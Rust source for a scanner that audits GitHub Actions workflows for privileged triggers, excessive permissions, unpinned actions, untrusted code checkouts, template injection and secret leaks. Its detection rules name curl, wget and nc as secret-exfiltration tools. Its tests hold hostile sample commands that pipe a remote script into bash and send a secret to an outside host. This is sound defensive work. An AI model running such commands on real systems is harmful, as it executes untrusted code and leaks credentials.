//! CI workflows (GitHub Actions): whose code runs, with which rights, and what it is given.

use super::job::is_commit;
use super::step::{keeps_too_much, writes_environment};
use super::workflow_loss;
use super::workflow_trust;
use crate::document::{Place, Value};
use crate::findings::observation::quote;
use crate::findings::shell::{at, script};
use crate::findings::{Change, Detector, Input, Observation, Outcome, Severity, rule};

/// The rules for workflows.
pub(in crate::findings) struct Workflows;

/// Contexts that strangers write.
const UNTRUSTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.pages",
    "github.event.commits",
    "github.event.head_commit",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.discussion",
    "github.head_ref",
    "github.event.workflow_run.head_branch",
    "github.event.inputs",
    "inputs.",
];

impl Detector for Workflows {
    fn kinds(&self) -> &'static [&'static str] {
        &["workflow"]
    }

    fn observe(&self, input: &Input<'_>, seen: &mut Vec<Observation>) -> Outcome {
        let mut found = false;
        for (place, root) in input.roots {
            let triggers = root.at("on").or_else(|| root.at("true"));
            if let (Some(jobs), Some(triggers)) = (root.at("jobs"), triggers) {
                found = true;
                workflow(place, root, triggers, jobs, seen);
            } else if root.path(&["runs", "steps"]).is_some() || root.path(&["runs", "using"]).is_some() {
                found = true;
                steps(place, root, false, seen);
            }
        }
        if found {
            Outcome::Analyzed
        } else {
            Outcome::NotMine
        }
    }

    fn changes(&self, before: &Input<'_>, after: &Input<'_>) -> Vec<Change> {
        match (before.roots, after.roots) {
            ([(_, old)], [(place, new)]) if new.at("jobs").is_some() => workflow_loss::lost(old, new, place),
            _ => Vec::new(),
        }
    }
}

fn workflow(place: &Place, root: &Value, triggers: &Value, jobs: &Value, seen: &mut Vec<Observation>) {
    let names: Vec<&str> = triggers
        .one_or_more()
        .iter()
        .filter_map(Value::text)
        .chain(triggers.entries().iter().map(|(name, _)| name.as_str()))
        .collect();
    let privileged = names.iter().any(|name| {
        matches!(
            *name,
            "pull_request_target" | "workflow_run" | "issue_comment" | "issues"
        )
    });
    for name in names
        .iter()
        .filter(|name| matches!(**name, "pull_request_target" | "workflow_run"))
    {
        let what = format!("the workflow runs on {name}, with rights and secrets, for changes of strangers");
        seen.push(Observation::new(&rule::CI_PRIVILEGED_TRIGGER, *name, what).at(place, triggers.line));
    }
    permissions(place, root, "the workflow", privileged, seen);
    for (name, job) in jobs.entries() {
        let all = |holder: &Value| holder.text_at("permissions") == Some("write-all");
        if all(job) || all(root) && job.at("permissions").is_none() {
            held_by_all(name, seen);
        }
        permissions(place, job, name, privileged, seen);
        if job.text_at("secrets") == Some("inherit") {
            let what = format!(
                "job {} hands every secret to {}",
                quote(name),
                quote(job.text_at("uses").unwrap_or("?"))
            );
            seen.push(Observation::new(&rule::CI_SECRETS_INHERITED, name.clone(), what).at(place, job.line));
        }
        let labels = job.at("runs-on").map(Value::one_or_more).unwrap_or_default();
        if labels.iter().any(|label| label.text() == Some("self-hosted")) {
            let severity = if privileged {
                Severity::High
            } else {
                Severity::Medium
            };
            let what = format!(
                "job {} runs on a machine of your own, where one run can leave something for the next",
                quote(name)
            );
            let seen_here = Observation::new(&rule::CI_SELF_HOSTED, name.clone(), what);
            seen.push(seen_here.severity(severity).at(place, job.line));
        }
    }
    steps(place, root, privileged, seen);
}

fn permissions(place: &Place, holder: &Value, of: &str, privileged: bool, seen: &mut Vec<Observation>) {
    let Some(given) = holder.at("permissions") else {
        return;
    };
    let mut add = |key: &str, severity, what: String, line| {
        seen.push(
            Observation::new(&rule::CI_PERMISSIONS, format!("{of} {key}"), what)
                .severity(severity)
                .at(place, line),
        );
    };
    if given.text() == Some("write-all") {
        add(
            "write-all",
            Severity::High,
            format!("{} may write everything", quote(of)),
            given.line,
        );
    }
    for (scope, level) in given
        .entries()
        .iter()
        .filter(|(_, level)| level.text() == Some("write"))
    {
        let severity = match scope.as_str() {
            "id-token" if !privileged && every_job_signs_in(holder) => Severity::Low,
            "contents" | "actions" | "packages" | "deployments" | "id-token" | "administration" => {
                Severity::Medium
            }
            _ => Severity::Low,
        };
        add(
            scope,
            severity,
            format!("{} may write {}", quote(of), quote(scope)),
            level.line,
        );
    }
}

fn every_job_signs_in(holder: &Value) -> bool {
    match holder.at("jobs") {
        Some(jobs) => jobs.entries().iter().all(|(_, job)| signs_in(job)),
        None => signs_in(holder),
    }
}

/// Says whether a step takes on a role with the job's own identity, or signs with it: what the token is for. What the role
/// may do is said where it is made.
fn signs_in(holder: &Value) -> bool {
    const ROLES: &[(&str, &str)] = &[
        ("aws-actions/configure-aws-credentials@", "role-to-assume"),
        ("google-github-actions/auth@", "workload_identity_provider"),
        ("azure/login@", "client-id"),
        ("hashicorp/vault-action@", "role"),
        ("actions/attest-build-provenance@", ""),
        ("actions/deploy-pages@", ""),
        ("pypa/gh-action-pypi-publish@", ""),
    ];
    let mut found = false;
    holder.walk(&mut |_, value| {
        let action = value.text_at("uses").unwrap_or_default().to_ascii_lowercase();
        found |= ROLES.iter().any(|(name, role)| {
            action.starts_with(name) && (role.is_empty() || value.path(&["with", role]).is_some())
        });
    });
    found
}

/// Notes that a job holds every right, so that one of them stated for itself is not gained.
fn held_by_all(job: &str, seen: &mut Vec<Observation>) {
    for scope in [
        "contents",
        "actions",
        "packages",
        "deployments",
        "id-token",
        "administration",
        "pages",
        "checks",
        "statuses",
        "issues",
        "pull-requests",
        "security-events",
        "discussions",
        "attestations",
    ] {
        let mut held = Observation::new(&rule::CI_PERMISSIONS, format!("{job} {scope}"), "");
        held.silent = true;
        seen.push(held);
    }
}

fn steps(place: &Place, root: &Value, privileged: bool, seen: &mut Vec<Observation>) {
    root.walk_from(&mut place.clone(), &mut |place, value| {
        if let Some(uses) = value.at("uses") {
            action(place, value, uses, privileged, seen);
        }
        if let Some(run) = value.at("run").filter(|run| run.text().is_some()) {
            command(place, run, seen);
            workflow_trust::environment(place, run, privileged, seen);
        }
        if privileged {
            workflow_trust::strangers(place, value, seen);
        }
        for (key, setting) in value.entries() {
            if key == "ACTIONS_ALLOW_UNSECURE_COMMANDS" && setting.is_true() {
                let what = format!("{} is on", quote(key));
                seen.push(
                    Observation::new(&rule::CI_INJECTION, place.identity.clone(), what)
                        .at(place, setting.line),
                );
            }
        }
    });
}

fn action(place: &Place, step: &Value, uses: &Value, privileged: bool, seen: &mut Vec<Observation>) {
    let Some(name) = uses.text().filter(|name| !name.starts_with("./")) else {
        return;
    };
    let pinned = name
        .split_once('@')
        .is_some_and(|(_, version)| is_commit(version));
    if !pinned {
        let official = name.starts_with("actions/") || name.starts_with("github/");
        let moving = name
            .split_once('@')
            .is_none_or(|(_, version)| matches!(version, "main" | "master" | "latest" | "HEAD"));
        let severity = match (official, moving) {
            (true, false) => Severity::Info,
            (true, true) => Severity::Low,
            (false, false) => Severity::Low,
            (false, true) => Severity::Medium,
        };
        let what = format!(
            "{} is not pinned to a commit, so its owner decides what runs",
            quote(name)
        );
        seen.push(
            Observation::new(&rule::CI_UNPINNED, name, what)
                .severity(severity)
                .at(place, uses.line),
        );
    }
    if name.contains("upload-artifact") {
        let path = step
            .path(&["with", "path"])
            .and_then(Value::text)
            .unwrap_or_default();
        let hidden = step
            .path(&["with", "include-hidden-files"])
            .is_some_and(Value::is_true);
        if hidden || keeps_too_much(path) {
            let what = format!(
                "{} keeps {}, with the credentials that may lie there",
                quote(name),
                quote(path)
            );
            let key = place.identity.clone();
            seen.push(Observation::new(&rule::CI_ARTIFACT_WIDE, key, what).at(place, uses.line));
        }
    }
    let checked_out = step
        .path(&["with", "ref"])
        .and_then(Value::text)
        .unwrap_or_default();
    if privileged
        && name.starts_with("actions/checkout")
        && (checked_out.contains("head")
            || checked_out.contains("pull_request")
            || checked_out.contains("refs/pull"))
    {
        let what = format!(
            "code of strangers ({}) is checked out where secrets are at hand",
            quote(checked_out)
        );
        seen.push(
            Observation::new(&rule::CI_STRANGERS_CODE, place.identity.clone(), what).at(place, uses.line),
        );
    }
    if name.starts_with("actions/github-script")
        && let Some(text) = step.path(&["with", "script"])
    {
        injection(place, text, seen);
    }
}

fn command(place: &Place, run: &Value, seen: &mut Vec<Observation>) {
    injection(place, run, seen);
    let text = run.text().unwrap_or_default();
    // A template is a value that is not known here; `$` makes the shell rules treat it so.
    let mut plain = String::new();
    for (index, part) in text.split("${{").enumerate() {
        match (index, part.split_once("}}")) {
            (0, _) => plain.push_str(part),
            (_, Some((inner, rest))) => {
                plain.push_str(if inner.contains("secrets.") {
                    "$SECRET"
                } else {
                    "$TEMPLATE"
                });
                plain.push_str(rest);
            }
            (_, None) => plain.push_str(part),
        }
    }
    for line in plain.lines() {
        if let Some((about, severity, why)) = writes_environment(line) {
            let what = format!("{} {why}", quote(line.trim()));
            let key = format!("{} {}", place.identity, line.trim());
            seen.push(
                Observation::new(about, key, what)
                    .severity(severity)
                    .at(place, run.line),
            );
        }
    }
    script(&plain, &at(place, "run", run.line), 0, seen);
    let sends = ["curl", "wget", "nc "]
        .iter()
        .any(|program| text.contains(program));
    if sends
        && (text.contains("secrets.") || text.contains("GITHUB_TOKEN") || text.contains("toJSON(secrets"))
        && !text.contains("api.github.com")
    {
        let what = format!(
            "a secret is given to a command that reaches the network: {}",
            quote(text.trim())
        );
        seen.push(Observation::new(&rule::CI_SECRET_SENT, place.identity.clone(), what).at(place, run.line));
    }
    if text.contains("toJSON(secrets)") || text.contains("toJson(secrets)") {
        let what = "every secret is written out at once".to_owned();
        seen.push(
            Observation::new(&rule::CI_SECRET_SENT, format!("{} all", place.identity), what)
                .at(place, run.line),
        );
    }
}

fn injection(place: &Place, run: &Value, seen: &mut Vec<Observation>) {
    let text = run.text().unwrap_or_default();
    for part in text.split("${{").skip(1) {
        let inner = part.split("}}").next().unwrap_or(part).trim();
        if let Some(context) = UNTRUSTED.iter().find(|context| inner.contains(**context)) {
            let severity = if context.contains("inputs") {
                Severity::Medium
            } else {
                Severity::High
            };
            let what = format!(
                "text that others write, {}, becomes part of a command",
                quote(inner)
            );
            seen.push(
                Observation::new(&rule::CI_INJECTION, format!("{} {inner}", place.identity), what)
                    .severity(severity)
                    .at(place, run.line),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::findings::{Severity, analyze, severity};

    fn flow(trigger: &str, extra: &str, step: &str) -> String {
        format!("on: {trigger}\n{extra}jobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - {step}\n")
    }

    fn ids(text: &str) -> Vec<String> {
        analyze("workflow", None, text.as_bytes())
            .iter()
            .map(|finding| finding.rule.to_string())
            .collect()
    }

    #[test]
    fn a_right_of_all_that_were_held_is_not_gained() {
        let rights = |rights: &str| {
            format!(
                "on: push\npermissions: {rights}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps: [{{run: make}}]\n"
            )
        };
        let all = rights("write-all");
        let some = "on: push\npermissions: {contents: read}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    permissions: {id-token: write}\n    steps: [{run: make}]\n";
        let level = |before: &str, after: &str| {
            severity(&analyze("workflow", Some(before.as_bytes()), after.as_bytes()))
        };
        assert_eq!(level(&all, some), Severity::Info);
        assert_eq!(level(some, &all), Severity::High);
    }

    #[test]
    fn a_token_of_its_own_weighs_less_where_a_step_signs_in_with_it() {
        let level = |trigger: &str, step: &str, more: &str| {
            let of = |rights: &str| {
                format!(
                    "on: {trigger}\npermissions: {{{rights}}}\njobs:\n  b:\n    runs-on: ubuntu-24.04\n    steps: [{step}]\n{more}"
                )
            };
            let after = of("contents: read, id-token: write");
            severity(&analyze(
                "workflow",
                Some(of("contents: read").as_bytes()),
                after.as_bytes(),
            ))
        };
        let hash = "a".repeat(40);
        let role =
            format!("{{uses: aws-actions/configure-aws-credentials@{hash}, with: {{role-to-assume: r}}}}");
        let other = "  c:\n    runs-on: ubuntu-24.04\n    steps: [{run: make}]\n";
        assert_eq!(level("push", &role, ""), Severity::Low);
        assert_eq!(level("push", &role, other), Severity::Medium);
        assert_eq!(level("push", "{run: make}", ""), Severity::Medium);
        assert_eq!(level("pull_request_target", &role, ""), Severity::Medium);
    }

    #[test]
    fn a_pinned_workflow_that_reads_is_quiet() {
        let hash = "a".repeat(40);
        assert_eq!(
            ids(&flow(
                "push",
                "permissions: {contents: read}\n",
                &format!("uses: x/y@{hash}")
            )),
            Vec::<String>::new()
        );
    }

    #[test]
    fn rights_triggers_and_pins_are_told() {
        let text = flow(
            "pull_request_target",
            "permissions: write-all\n",
            "uses: x/y@main",
        );
        assert_eq!(
            ids(&text),
            ["ci-permissions", "ci-privileged-trigger", "ci-unpinned-action"]
        );
    }

    #[test]
    fn what_a_workflow_loses_is_told() {
        let pin = "a".repeat(40);
        let before = format!(
            "on: push\npermissions: {{contents: read}}\njobs:\n  d:\n    environment: production\n    runs-on: ubuntu-latest\n    steps:\n      - uses: x/y@{pin}\n"
        );
        let level = |after: &str| severity(&analyze("workflow", Some(before.as_bytes()), after.as_bytes()));
        assert_eq!(level(&before), Severity::Info);
        for less in [
            before.replace("permissions: {contents: read}\n", ""),
            before.replace("    environment: production\n", ""),
            before.replace(&pin, "v2"),
        ] {
            assert_eq!(level(&less), Severity::Medium, "{less}");
        }
    }

    #[test]
    fn injection_and_strangers_code_are_high() {
        assert_eq!(
            ids(&flow("issues", "", "run: echo ${{ github.event.issue.title }}")),
            ["ci-injection"]
        );
        let checkout =
            "{uses: actions/checkout@v4, with: {ref: '${{ github.event.pull_request.head.sha }}'}}";
        assert!(ids(&flow("pull_request_target", "", checkout)).contains(&"ci-strangers-code".to_owned()));
    }

    #[test]
    fn commands_in_steps_are_judged_as_commands() {
        assert_eq!(
            severity(&analyze(
                "workflow",
                None,
                flow("push", "", "run: curl -s x.test | bash").as_bytes()
            )),
            Severity::High
        );
        assert!(
            ids(&flow("push", "", "run: curl -H ${{ secrets.T }} https://x.test"))
                .contains(&"ci-secret-sent".to_owned())
        );
    }
}
